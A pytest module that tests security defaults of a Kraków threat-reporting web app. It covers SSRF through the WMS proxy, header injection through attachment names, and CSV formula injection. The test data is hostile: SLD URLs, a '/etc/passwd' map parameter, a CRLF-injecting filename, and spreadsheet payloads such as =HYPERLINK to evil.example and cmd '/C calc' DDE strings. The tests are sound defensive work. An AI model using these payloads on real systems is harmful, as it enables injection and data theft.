"""Secure defaults, over HTTP against the real app (gunicorn), PostGIS and QGIS Server:
internal police notes, /wms refusing SLD and forwarding only WMS parameters,
partners as institution codes, attachment names (RFC 6266), CSV without formulas."""

from __future__ import annotations

import base64
import csv
import email.message
import email.utils
import http.server
import io
import itertools
import json
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import jwt
import psycopg
import pytest
import requests

from conftest import running_app
from helpers import new_address, token_for
from kmzb.auth import tokens
from kmzb.service import csv_safety, wms_proxy
from kmzb.settings import Settings

# Points spread across Kraków (KMP-1261), each report at its own place.
_places = itertools.count()
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 100
BOX_2180 = (564000.0, 242000.0, 568000.0, 246000.0)  # Kraków's centre, easting/northing


def krakow_point() -> dict[str, float]:
    n = next(_places)
    return {"lon": 19.90 + 0.006 * (n % 12), "lat": 50.03 + 0.006 * (n // 12)}


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    """A real HTTP server on a loopback port that records every request it gets."""
    seen: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            seen.append(self.path)
            body = b'<?xml version="1.0"?><StyledLayerDescriptor version="1.1.0"/>'
            self.send_response(200)
            self.send_header("Content-Type", "application/vnd.ogc.sld+xml")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def app(db_url: str, server: Settings, wms: str, tmp_path_factory) -> Iterator[str]:
    """The app under gunicorn, /wms pointed at the real QGIS Server; no flood guard
    in the way of this module's many reports in one city."""
    openapi = tmp_path_factory.mktemp("openapi-secure") / "openapi.yml"
    extra = {"KMZB_WMS_URL": f"{wms}/ows/", "KMZB_BURST_THRESHOLD": "100000"}
    with running_app(db_url, server, openapi, extra) as base:
        yield base


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def submit(app: str, inputs: dict, token: str | None = None) -> requests.Response:
    headers = {"X-Forwarded-For": new_address()}
    if token:
        headers.update(bearer(token))
    return requests.post(
        f"{app}/processes/submit-threat/execution",
        json={"inputs": inputs},
        headers=headers,
        timeout=60,
    )


def new_report(app: str, **extra) -> str:
    answer = submit(app, {**krakow_point(), "category": "illegal_parking", **extra})
    assert answer.status_code == 200, answer.text
    return answer.json()["reference"]


def review(app: str, token: str, **inputs) -> requests.Response:
    return requests.post(
        f"{app}/processes/review-threat/execution",
        json={"inputs": inputs},
        headers=bearer(token),
        timeout=60,
    )


def assert_bilingual_400(answer: requests.Response, field: str | None = None) -> dict:
    assert answer.status_code == 400, answer.text
    body = answer.json()
    if field is None:
        assert body["description"] == body["message"]["en"]  # English
        assert body["message"]["pl"] and body["message"]["pl"] != body["message"]["en"]
    else:
        errors = {e["field"]: e for e in body["errors"]}
        assert field in errors, body
        assert errors[field]["pl"] and errors[field]["en"]
        assert errors[field]["pl"] != errors[field]["en"]
    return body


def police_details(app: str, token: str, ref: str) -> dict:
    answer = requests.get(f"{app}/police/reports/{ref}", headers=bearer(token), timeout=30)
    assert answer.status_code == 200, answer.text
    return answer.json()


# --- 1. police notes are internal unless marked public ----------------------------------


def test_a_note_is_internal_unless_marked_public(app: str, db_url: str) -> None:
    officer = token_for("officer", "KMP-1261")
    ref = new_report(app)
    answer = review(
        app, officer, reference=ref, status="verification", version=1, note="Sprawca: Jan K."
    )
    assert answer.status_code == 200, answer.text
    public = requests.get(f"{app}/reports/{ref}", timeout=30).json()
    assert "Sprawca: Jan K." not in json.dumps(public, ensure_ascii=False)
    assert [h["to"] for h in public["history"]] == ["new", "verification"]
    police = police_details(app, officer, ref)
    last = police["history"][-1]
    assert last["note"] == "Sprawca: Jan K." and last["note_public"] is False
    # the citizen-facing receipt note stays public
    assert public["history"][0]["note"] == "Zgłoszenie przyjęte / Report received"

    answer = review(
        app,
        officer,
        reference=ref,
        status="confirmed",
        version=2,
        note="Potwierdzone; patrol w rejonie.",
        note_public=True,
    )
    assert answer.status_code == 200, answer.text
    public = requests.get(f"{app}/reports/{ref}", timeout=30).json()
    assert public["history"][-1]["note"] == "Potwierdzone; patrol w rejonie."
    assert "Sprawca: Jan K." not in json.dumps(public, ensure_ascii=False)
    assert police_details(app, officer, ref)["history"][-1]["note_public"] is True


@pytest.mark.parametrize(
    ("inputs", "field"),
    [
        ({"note_public": "yes"}, "note_public"),
        ({"note_public": 1}, "note_public"),
        ({"note_internal": False}, "note_internal"),  # the old input is gone, not ignored
    ],
)
def test_a_bad_note_flag_is_a_400_and_changes_nothing(
    app: str, db_url: str, inputs: dict, field: str
) -> None:
    ref = new_report(app)
    officer = token_for("officer", "KMP-1261")
    answer = review(
        app, officer, reference=ref, status="verification", version=1, note="x", **inputs
    )
    assert_bilingual_400(answer, field)
    with psycopg.connect(db_url) as conn:
        row = conn.execute(
            "SELECT status, version FROM kmzb.reports WHERE public_ref = %s", (ref,)
        ).fetchone()
    assert row == ("new", 1)


def test_the_column_default_is_internal(conn: psycopg.Connection) -> None:
    """A note written by any other path than the review (SQL, loaders) is internal too."""
    default = conn.execute(
        """SELECT column_default FROM information_schema.columns
           WHERE table_schema = 'kmzb' AND table_name = 'report_status_history'
             AND column_name = 'note_internal'"""
    ).fetchone()
    assert default == ("true",)


def test_the_review_process_describes_note_public(app: str) -> None:
    process = requests.get(f"{app}/processes/review-threat?f=json", timeout=30).json()
    assert "note_internal" not in process["inputs"]
    assert process["inputs"]["note_public"]["schema"] == {"type": "boolean", "default": False}
    assert "GET /institutions" in process["description"]


# --- 2. /wms: no SLD, only WMS parameters -------------------------------------------------


def wms_get(base: str, params: dict, headers: dict | None = None) -> requests.Response:
    return requests.get(f"{base}/wms", params=params, headers=headers or {}, timeout=60)


GETMAP = {
    "SERVICE": "WMS",
    "VERSION": "1.3.0",
    "REQUEST": "GetMap",
    "LAYERS": "gminy",
    "STYLES": "",
    "CRS": "EPSG:2180",
    "BBOX": f"{BOX_2180[1]},{BOX_2180[0]},{BOX_2180[3]},{BOX_2180[2]}",
    "WIDTH": "256",
    "HEIGHT": "256",
    "FORMAT": "image/png",
    "TRANSPARENT": "true",
}


def test_qgis_server_itself_fetches_an_sld_url(wms: str, listener) -> None:
    """The threat is real: QGIS Server, asked directly, fetches the SLD= URL."""
    url, seen = listener
    before = len(seen)
    requests.get(f"{wms}/ows/", params={**GETMAP, "SLD": f"{url}/direct.sld"}, timeout=60)
    deadline = time.monotonic() + 10
    while len(seen) == before and time.monotonic() < deadline:
        time.sleep(0.1)
    assert any(path.startswith("/direct.sld") for path in seen[before:]), seen


@pytest.mark.parametrize(
    "extra",
    [
        {"SLD": "{url}/x.sld"},
        {"sld": "{url}/x.sld"},
        {
            "Sld_Body": "<StyledLayerDescriptor><NamedLayer><Name>gminy</Name><UserStyle>"
            '<ExternalGraphic><OnlineResource href="{url}/g.png"/></ExternalGraphic>'
            "</UserStyle></NamedLayer></StyledLayerDescriptor>"
        },
    ],
)
def test_wms_refuses_sld_and_fetches_nothing(app: str, listener, extra: dict) -> None:
    url, seen = listener
    before = len(seen)
    params = {**GETMAP, **{k: v.replace("{url}", url) for k, v in extra.items()}}
    answer = wms_get(app, params)
    body = assert_bilingual_400(answer)
    assert "SLD" in body["description"] and "nie jest obsługiwany" in body["message"]["pl"]
    time.sleep(1)
    assert seen[before:] == []


def test_wms_drops_what_it_does_not_forward(app: str, wms: str, listener) -> None:
    """Vendor parameters outside the allow-list never reach QGIS Server: FILTER, which
    QGIS Server honours when asked directly (it empties the map), a project path, a
    highlight style document and URL-valued parameters of no use to a WMS client."""
    url, seen = listener
    before = len(seen)
    plain = wms_get(app, GETMAP)
    assert plain.status_code == 200 and plain.headers["Content-Type"] == "image/png"
    no_gminy = {"FILTER": "gminy:\"teryt\" = '0000000'"}
    direct = requests.get(f"{wms}/ows/", params={**GETMAP, **no_gminy}, timeout=60)
    assert direct.headers["Content-Type"] == "image/png"
    assert direct.content != plain.content  # QGIS Server applied the filter
    junk = {
        **no_gminy,
        "MAP": "/nonexistent/x.qgs",
        "map": "/etc/passwd",
        "HIGHLIGHT_GEOM": "POINT(566000 244000)",
        "HIGHLIGHT_SYMBOL": f'<StyledLayerDescriptor><OnlineResource href="{url}/h.png"/>'
        "</StyledLayerDescriptor>",
        "TEMPLATE": "a4",
        "FILE_NAME": "evil.png",
        "callback": f"{url}/cb",
        "url": f"{url}/u",
    }
    answer = wms_get(app, {**GETMAP, **junk})
    assert answer.status_code == 200, answer.text[:500]
    assert answer.headers["Content-Type"] == "image/png"
    assert answer.content == plain.content  # drawn as if none of them had been sent
    time.sleep(1)
    assert seen[before:] == []


def test_the_forwarded_query_keeps_only_the_allow_list() -> None:
    pairs = [
        ("service", "WMS"),
        ("Request", "GetMap"),
        ("LAYERS", "gminy,powiaty"),
        ("DIM_ROK", "2024"),
        ("MAP", "/etc/x.qgs"),
        ("HIGHLIGHT_SYMBOL", "<x/>"),
        ("TEMPLATE", "a4"),
        ("FILTER", "gminy:\"name\" = 'x'"),
        ("_olSalt", "0.5"),
        ("BBOX", "1,2,3,4"),
    ]
    assert wms_proxy.forwarded_query(pairs) == (
        "service=WMS&Request=GetMap&LAYERS=gminy%2Cpowiaty&DIM_ROK=2024&BBOX=1%2C2%2C3%2C4"
    )


def test_wms_still_serves_the_page_and_gis_clients(app: str) -> None:
    # GetCapabilities, as the page and OWSLib ask it
    caps = wms_get(app, {"SERVICE": "WMS", "VERSION": "1.3.0", "REQUEST": "GetCapabilities"})
    assert caps.status_code == 200 and "<WMS_Capabilities" in caps.text
    assert "<Name>gminy</Name>" in caps.text
    # GetMap, with the page's vendor parameters (TILED) and a WMS 1.3.0 dimension
    tile = wms_get(app, {**GETMAP, "TILED": "true", "DPI": "96"})
    assert tile.status_code == 200 and tile.content[:8] == b"\x89PNG\r\n\x1a\n"
    crime = wms_get(app, {**GETMAP, "LAYERS": "przestepczosc_powiaty", "DIM_ROK": "2020"})
    assert crime.status_code == 200 and crime.headers["Content-Type"] == "image/png"
    # GetLegendGraphic, as the page asks it (SLD_VERSION is a version, not a document)
    legend = wms_get(
        app,
        {
            "SERVICE": "WMS",
            "VERSION": "1.3.0",
            "REQUEST": "GetLegendGraphic",
            "FORMAT": "image/png",
            "LAYER": "przestepczosc_powiaty",
            "SLD_VERSION": "1.1.0",
            "LAYERTITLE": "false",
            "ITEMFONTSIZE": "9",
        },
    )
    assert legend.status_code == 200 and legend.headers["Content-Type"] == "image/png"
    # GetFeatureInfo at Kraków's centre: the gmina Kraków
    info = wms_get(
        app,
        {
            **GETMAP,
            "REQUEST": "GetFeatureInfo",
            "QUERY_LAYERS": "gminy",
            "INFO_FORMAT": "application/json",
            "I": "128",
            "J": "128",
            "FEATURE_COUNT": "1",
        },
    )
    assert info.status_code == 200, info.text[:500]
    features = info.json()["features"]
    assert [f["properties"]["teryt"] for f in features] == ["1261011"]
    # the caller's token still goes through to the access plugin: a police layer
    coordinator = wms_get(
        app,
        {"SERVICE": "WMS", "VERSION": "1.3.0", "REQUEST": "GetCapabilities"},
        bearer(token_for("coordinator", "KMP-1261")),
    )
    assert "<Name>zgloszenia_jednostki</Name>" in coordinator.text
    assert "<Name>zgloszenia_jednostki</Name>" not in caps.text


# --- 3. partners are institutions with codes ----------------------------------------------


def test_seeded_institutions_name_real_police_units(conn: psycopg.Connection) -> None:
    missing = conn.execute(
        """SELECT iu.institution, iu.police_unit FROM kmzb.institution_units iu
           WHERE NOT EXISTS (SELECT 1 FROM kmzb.police_units u WHERE u.code = iu.police_unit)"""
    ).fetchall()
    assert missing == []
    reach = {
        row[0]
        for row in conn.execute(
            "SELECT institution FROM kmzb.institution_unit_reach WHERE police_unit = 'KMP-1261'"
        )
    }
    # the city's own, and the voivodeship-wide ones through KWP-12
    assert {"SM-KRAKOW", "ZDMK", "UM-KRAKOW", "GDDKIA-KRAKOW", "PLK-KRAKOW"} <= reach
    assert "SM-WROCLAW" not in reach and "ZDPK" not in reach


def test_forwarded_to_must_be_an_institution_code_in_the_database(
    conn: psycopg.Connection,
) -> None:
    report_id = conn.execute(
        """INSERT INTO kmzb.reports (public_ref, category, geom, status, police_unit)
           VALUES ('INST-TEST-0001', 'vandalism',
                   ST_Transform(ST_SetSRID(ST_MakePoint(19.94, 50.06), 4326), 2180),
                   'new', 'KMP-1261')
           RETURNING id"""
    ).fetchone()[0]
    for status in ("verification", "confirmed"):
        conn.execute("UPDATE kmzb.reports SET status = %s WHERE id = %s", (status, report_id))
    with pytest.raises(psycopg.errors.ForeignKeyViolation):
        with conn.transaction():
            conn.execute(
                "UPDATE kmzb.reports SET status = 'forwarded', forwarded_to = 'Straż Miejska' "
                "WHERE id = %s",
                (report_id,),
            )
    conn.execute(
        "UPDATE kmzb.reports SET status = 'forwarded', forwarded_to = 'SM-KRAKOW' WHERE id = %s",
        (report_id,),
    )


def test_institutions_list_for_the_police(app: str) -> None:
    assert requests.get(f"{app}/institutions", timeout=30).status_code == 401
    partner = token_for("partner", institution="ZDMK")
    assert (
        requests.get(f"{app}/institutions", headers=bearer(partner), timeout=30).status_code == 403
    )
    officer = token_for("officer", "KMP-1261")
    answer = requests.get(
        f"{app}/institutions", params={"unit": "KMP-1261"}, headers=bearer(officer), timeout=30
    )
    assert answer.status_code == 200, answer.text
    listed = {i["code"]: i for i in answer.json()["institutions"]}
    assert listed["SM-KRAKOW"]["name"] == {
        "pl": "Straż Miejska Miasta Krakowa",
        "en": "Kraków City Guard",
    }
    assert listed["SM-KRAKOW"]["kind"] == "city_guard"
    assert "GDDKIA-KRAKOW" in listed and "SM-WROCLAW" not in listed
    everything = requests.get(f"{app}/institutions", headers=bearer(officer), timeout=30).json()
    assert "SM-WROCLAW" in {i["code"] for i in everything["institutions"]}
    elsewhere = requests.get(
        f"{app}/institutions", params={"unit": "KMP-0264"}, headers=bearer(officer), timeout=30
    )
    assert elsewhere.status_code == 403


def confirmed_report(app: str, officer: str) -> str:
    ref = new_report(app)
    for version, status in ((1, "verification"), (2, "confirmed")):
        answer = review(app, officer, reference=ref, status=status, version=version)
        assert answer.status_code == 200, answer.text
    return ref


@pytest.mark.parametrize(
    ("forwarded_to", "status", "message"),
    [
        ("Straż Miejska Miasta Krakowa", "forwarded", "kod instytucji"),  # a name, not a code
        ("NIE-MA-TAKIEJ", "forwarded", "Nieznany kod instytucji"),
        ("SM-WROCLAW", "forwarded", "nie przekazuje zgłoszeń"),  # not for Kraków's unit
        ("", "forwarded", "kod instytucji"),
        (None, "forwarded", "wymaga kodu instytucji"),
        ("SM-KRAKOW", "eliminated", "tylko przy statusie forwarded"),
    ],
)
def test_forwarding_to_an_unknown_or_foreign_institution_is_a_400(
    app: str, db_url: str, forwarded_to: str | None, status: str, message: str
) -> None:
    officer = token_for("officer", "KMP-1261")
    ref = confirmed_report(app, officer)
    extra = {} if forwarded_to is None else {"forwarded_to": forwarded_to}
    answer = review(app, officer, reference=ref, status=status, version=3, **extra)
    body = assert_bilingual_400(answer, "forwarded_to")
    assert message in {e["field"]: e for e in body["errors"]}["forwarded_to"]["pl"]
    with psycopg.connect(db_url) as conn:
        row = conn.execute(
            "SELECT status, forwarded_to, version FROM kmzb.reports WHERE public_ref = %s", (ref,)
        ).fetchone()
    assert row == ("confirmed", None, 3)


def test_forwarded_reports_reach_the_partner_by_code(app: str) -> None:
    officer = token_for("officer", "KMP-1261")
    ref = confirmed_report(app, officer)
    answer = review(app, officer, reference=ref, status="forwarded", version=3, forwarded_to="zdmk")
    assert answer.status_code == 200, answer.text
    public = requests.get(f"{app}/reports/{ref}", timeout=30).json()
    assert public["forwarded_to"] == "ZDMK"
    assert public["forwarded_to_name"]["pl"] == "Zarząd Dróg Miasta Krakowa"

    def forwarded(token: str) -> requests.Response:
        return requests.get(f"{app}/partner/forwarded", headers=bearer(token), timeout=30)

    roads = forwarded(token_for("partner", institution="ZDMK"))
    assert roads.status_code == 200
    assert ref in [r["reference"] for r in roads.json()["reports"]]
    assert roads.json()["institution_name"]["en"] == "Kraków City Roads Authority"
    guard = forwarded(token_for("partner", institution="SM-KRAKOW"))
    assert guard.status_code == 200 and ref not in [r["reference"] for r in guard.json()["reports"]]
    unknown = forwarded(token_for("partner", institution="NIEZNANA"))
    assert unknown.status_code == 403
    assert "NIEZNANA" in unknown.json()["description"]


def test_the_police_panel_forwards_by_code_and_keeps_notes_internal(app: str) -> None:
    """In the browser: the note checkbox is unticked, the forward field lists the codes
    the report's unit may forward to, and the review sends the chosen code."""
    from playwright.sync_api import expect, sync_playwright

    from test_web import CHROMIUM, CHROMIUM_ARGS, build_web_client

    build_web_client()
    officer = token_for("officer", "KMP-1261")
    ref = confirmed_report(app, officer)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(base_url=app, locale="pl-PL")
            page.set_default_timeout(15_000)
            page.goto("/map/#police")
            page.locator("#police-token").fill(officer)
            page.locator("#police-login button[type=submit]").click()
            expect(page.locator("#police-queue")).to_have_attribute("aria-busy", "false")
            page.locator("#police-ref").fill(ref)
            page.locator("#police-open button[type=submit]").click()
            expect(page.locator("#police-report-status")).to_contain_text("wersja 3")
            expect(page.locator("#review-public")).not_to_be_checked()
            page.locator("#review-status").select_option("forwarded")
            expect(page.locator("#review-forwarded")).to_be_visible()
            codes = page.locator("#review-forwarded option").evaluate_all(
                "options => options.map(o => o.value)"
            )
            assert {"SM-KRAKOW", "ZDMK", "GDDKIA-KRAKOW"} <= set(codes)
            assert "SM-WROCLAW" not in codes and "ZDPK" not in codes
            page.locator("#review-forwarded").select_option("ZDMK")
            page.locator("#review-note").fill("Przekazano zarządcy drogi; kontakt: p. Nowak.")
            page.locator("#police-review button[type=submit]").click()
            expect(page.locator("#police-report-status")).to_contain_text("przekazane")
            expect(page.locator("#police-report")).to_contain_text("Zarząd Dróg Miasta Krakowa")
        finally:
            browser.close()
    public = requests.get(f"{app}/reports/{ref}", timeout=30).json()
    assert public["status"] == "forwarded" and public["forwarded_to"] == "ZDMK"
    assert "Nowak" not in json.dumps(public, ensure_ascii=False)


def free_text_partner_token(settings: Settings) -> str:
    """A partner token signed with the right key whose institution is a name, not a code."""
    now = int(time.time())
    return jwt.encode(
        {
            "iss": settings.jwt_issuer,
            "aud": settings.jwt_audience,
            "sub": "p",
            "iat": now,
            "nbf": now,
            "exp": now + 600,
            "role": "partner",
            "institution": "Zarząd Dróg Miasta Krakowa",
        },
        Path(tokens.PRIVATE_KEY).read_bytes(),
        algorithm="ES256",
        headers={"kid": tokens.LOCAL_KEY_ID},
    )


def test_a_token_naming_an_institution_by_free_text_is_refused(
    app: str, wms: str, settings
) -> None:
    with pytest.raises(ValueError, match="institution code"):
        tokens.issue(settings, "partner", "p", institution="Zarząd Dróg Miasta Krakowa")
    free_text = bearer(free_text_partner_token(settings))
    answer = requests.get(f"{app}/partner/forwarded", headers=free_text, timeout=30)
    assert answer.status_code == 401
    assert "institution" in answer.json()["description"]
    # QGIS Server's access plugin applies the same rule
    capabilities = {"SERVICE": "WMS", "VERSION": "1.3.0", "REQUEST": "GetCapabilities"}
    refused = requests.get(f"{wms}/ows/", params=capabilities, headers=free_text, timeout=60)
    assert refused.status_code == 401
    coded = bearer(token_for("partner", institution="ZDMK"))
    assert requests.get(f"{wms}/ows/", params=capabilities, headers=coded, timeout=60).ok


def test_token_issue_takes_an_institution_code(settings) -> None:
    kmzb = [sys.executable, "-m", "kmzb.cli", "token", "issue", "--role", "partner"]
    good = subprocess.run([*kmzb, "--institution", "ZDMK"], capture_output=True, text=True)
    assert good.returncode == 0, good.stderr
    claims = jwt.decode(good.stdout.strip(), options={"verify_signature": False})
    assert claims["institution"] == "ZDMK" and claims["role"] == "partner"
    bad = subprocess.run([*kmzb, "--institution", "Zarząd Dróg"], capture_output=True, text=True)
    assert bad.returncode != 0 and "institution code" in bad.stderr
    assert bad.stdout == ""


# --- 4. attachment names -----------------------------------------------------------------


def b64(content: bytes) -> str:
    return base64.b64encode(content).decode()


def disposition(header: str) -> list[tuple[str, str]]:
    """The header's parts as the standard library's RFC 2231/5987 parser reads them:
    [(type, ''), (name, value) ...], `filename*` decoded (it reads as `filename`, UTF-8)."""
    message = email.message.Message()
    message["Content-Disposition"] = header
    parts = message.get_params(header="content-disposition")
    return [
        (name, f"*{email.utils.collapse_rfc2231_value(value)}")
        if isinstance(value, tuple)
        else (name, value)
        for name, value in parts
    ]


def download(app: str, token: str, ref: str) -> requests.Response:
    details = police_details(app, token, ref)
    first = details["attachments"][0]["id"]
    return requests.get(
        f"{app}/police/reports/{ref}/attachments/{first}", headers=bearer(token), timeout=30
    )


def test_a_polish_attachment_name_downloads(app: str) -> None:
    officer = token_for("officer", "KMP-1261")
    ref = new_report(app, attachments=[{"name": "zdjęcie żółw.jpg", "content": b64(JPEG)}])
    got = download(app, officer, ref)
    assert got.status_code == 200 and got.content == JPEG
    header = got.headers["Content-Disposition"]
    assert header == (
        'attachment; filename="zdjecie zolw.jpg"; '
        "filename*=UTF-8''zdj%C4%99cie%20%C5%BC%C3%B3%C5%82w.jpg"
    )
    assert disposition(header) == [
        ("attachment", ""),
        ("filename", "zdjecie zolw.jpg"),  # the ASCII fallback
        ("filename", "*zdjęcie żółw.jpg"),  # filename*, which RFC 6266 clients prefer
    ]
    assert got.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in got.headers["Content-Security-Policy"]
    assert got.headers["Content-Type"] == "image/jpeg"


CRAFTED = 'a"; filename=evil.exe\r\nX-Injected: 1\r\n\r\n<script>;x\\y'


def test_a_crafted_attachment_name_injects_nothing(app: str, db_url: str) -> None:
    """An old row (written before the submission refused control characters) with quotes,
    `;`, a backslash and CR LF: one Content-Disposition, two parameters, no new header."""
    officer = token_for("officer", "KMP-1261")
    ref = new_report(app)
    with psycopg.connect(db_url) as conn:
        conn.execute(
            """INSERT INTO kmzb.report_attachments
                   (report_id, filename, media_type, size_bytes, sha256, content)
               SELECT id, %s, 'image/jpeg', %s, repeat('0', 64), %s
               FROM kmzb.reports WHERE public_ref = %s""",
            (CRAFTED, len(JPEG), JPEG, ref),
        )
    got = download(app, officer, ref)
    assert got.status_code == 200 and got.content == JPEG
    assert "X-Injected" not in got.headers
    header = got.headers["Content-Disposition"]
    assert "\r" not in header and "\n" not in header
    assert disposition(header) == [
        ("attachment", ""),
        ("filename", "a__ filename_evil.exe__X-Injected_ 1_____script__x_y"),
        ("filename", f"*{CRAFTED}"),  # the exact name, percent-encoded in filename*
    ]


@pytest.mark.parametrize(
    "name",
    ["a\r\nb.jpg", "zdjęcie\n.jpg", "nul\x00.jpg", "gpj.\u202eexe.jpg", "tab\there.jpg"],
)
def test_a_file_name_with_control_characters_is_refused(app: str, db_url: str, name: str) -> None:
    with psycopg.connect(db_url) as conn:
        before = conn.execute("SELECT count(*) FROM kmzb.reports").fetchone()[0]
    answer = submit(
        app,
        {
            **krakow_point(),
            "category": "vandalism",
            "attachments": [{"name": name, "content": b64(JPEG)}],
        },
    )
    if "\x00" in name:  # a NUL is refused at the door, wherever it is (control_characters)
        body = assert_bilingual_400(answer, "inputs.attachments[0].name")
        assert "znaków sterujących" in body["errors"][0]["pl"]
    else:
        body = assert_bilingual_400(answer, "attachments[1]")
        assert "znaki sterujące" in body["errors"][0]["pl"]
    with psycopg.connect(db_url) as conn:
        assert conn.execute("SELECT count(*) FROM kmzb.reports").fetchone()[0] == before


# --- 5. CSV without formulas -------------------------------------------------------------


def csv_rows(app: str, collection: str, **params) -> list[dict[str, str]]:
    answer = requests.get(
        f"{app}/collections/{collection}/items", params={"f": "csv", **params}, timeout=60
    )
    assert answer.status_code == 200, answer.text[:500]
    assert answer.headers["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"))))


@pytest.mark.parametrize(
    "description",
    [
        '=HYPERLINK("http://evil.example/?x="&A1;"Kliknij")',
        "+48 123 456 789 dzwoni po nocy",
        "-1+1|cmd '/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
)
def test_csv_neutralises_formula_prefixes(app: str, description: str) -> None:
    point = krakow_point()
    answer = submit(app, {**point, "category": "vandalism", "description": description})
    assert answer.status_code == 200, answer.text
    ref = answer.json()["reference"]
    lon, lat = point["lon"], point["lat"]
    bbox = f"{lon - 0.001},{lat - 0.001},{lon + 0.001},{lat + 0.001}"
    rows = [r for r in csv_rows(app, "threats", bbox=bbox) if r["id"] == ref]
    assert len(rows) == 1, rows
    assert rows[0]["description"] == "'" + description
    # JSON keeps the citizen's text as written
    feature = requests.get(f"{app}/collections/threats/items/{ref}?f=json", timeout=30).json()
    assert feature["properties"]["description"] == description


def test_csv_leaves_numbers_and_plain_text_alone(app: str) -> None:
    rows = csv_rows(app, "gminy", limit=5)
    assert rows and all(not r["name"].startswith("'") for r in rows)
    numeric = [k for k, v in rows[0].items() if v and v.lstrip("-").replace(".", "", 1).isdigit()]
    assert numeric, rows[0]  # numbers are written as numbers, without a quote
    assert csv_safety.neutralise(-3.5) == -3.5 and csv_safety.neutralise(-3) == -3
    assert csv_safety.neutralise("-3") == "'-3"  # text that a spreadsheet would evaluate
    # a tab or CR first (a submission's description is trimmed, other text may not be)
    assert csv_safety.neutralise("\t=1+1") == "'\t=1+1"
    assert csv_safety.neutralise("\r=1+1") == "'\r=1+1"
    assert csv_safety.neutralise("Kraków") == "Kraków"


def test_csv_formatter_replaces_the_stock_one_of_this_pygeoapi_only() -> None:
    """The version guard: another pygeoapi, or another CSV formatter, stops the start."""
    import pygeoapi

    stock, safe = csv_safety.STOCK_FORMATTER, csv_safety.SAFE_FORMATTER
    assert csv_safety.guard_problem(pygeoapi.__version__, stock) is None
    assert csv_safety.guard_problem(pygeoapi.__version__, safe) is None
    assert "0.25.0" in (csv_safety.guard_problem("0.25.0", stock) or "")
    assert "other.Formatter" in (
        csv_safety.guard_problem(pygeoapi.__version__, "other.Formatter") or ""
    )
